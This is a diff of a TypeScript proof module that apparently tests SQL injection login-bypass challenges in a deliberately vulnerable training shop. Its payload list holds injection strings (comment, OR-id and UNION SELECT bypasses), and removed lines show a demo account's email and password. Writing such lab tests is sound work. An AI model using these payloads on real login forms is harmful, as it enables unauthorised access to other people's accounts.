@@ -1,23 +1,20 @@
 import { createHash } from 'node:crypto'
 import type { ChallengeKey } from '../../../../../lab/challenges/catalogue.js'
 import type { Ports } from '../../../../../lab/ports.js'
-import type { ServedLab } from '../../../../support/serve-lab.js'
+import { logInAs } from '../../../../../lab/proofs/features/accounts.js'
 import type { Proof } from '../proof.js'
-import { withSharedLab } from './with-lab.js'
+import { tryTable } from './from-table.js'
 
 interface Source {
   readonly findAccountByConcatenation: Ports['findAccount']
 }
 
-/** The attack signs somebody in without a password; the feature is a customer who has one. */
 function proveLogin(key: ChallengeKey, id: number, email: string): Proof {
   return {
     async try(version) {
       const { findAccountByConcatenation } = await version.load<Source>()
-      return withSharedLab({ findAccount: findAccountByConcatenation }, async (shop) => ({
-        attack: await someoneGetsIn(shop, key, payloadsFor(id, email)),
-        feature: await customerGetsIn(shop),
-      }))
+      const attacks = payloadsFor(id, email).map((payload) => logInAs(payload, password))
+      return tryTable(key, { findAccount: findAccountByConcatenation }, attacks)
     },
   }
 }
@@ -33,24 +30,13 @@ function payloadsFor(id: number, email: string): string[] {
   const row = `${id},'','${email}','${hash}','customer','','','','',1,'2026-01-01','2026-01-01',null`
   return [
     `${email}'--`,
-    "' or 1=1--",
     `' or id=${id}--`,
     `' or id=${id} or '`,
     `${email}' or '1'='2`,
     `' UNION SELECT ${row}--`,
     `\\' or id=${id}--`,
+    `${email}'/*`,
+    `${email}'-;-`,
     `${email}\\`,
   ]
-}
-
-async function someoneGetsIn(shop: ServedLab, key: ChallengeKey, emails: readonly string[]): Promise<boolean> {
-  for (const email of emails) await shop.post('/rest/user/login', { email, password })
-  return shop.solved().includes(key)
-}
-
-async function customerGetsIn(shop: ServedLab): Promise<boolean> {
-  const logIn = (secret: string) =>
-    shop.post('/rest/user/login', { email: 'mc.safesearch@juice-sh.op', password: secret })
-  const [right, wrong] = [await logIn('Mr. N00dles'), await logIn('Mr. Noodles')]
-  return right.status === 200 && wrong.status === 401
 }
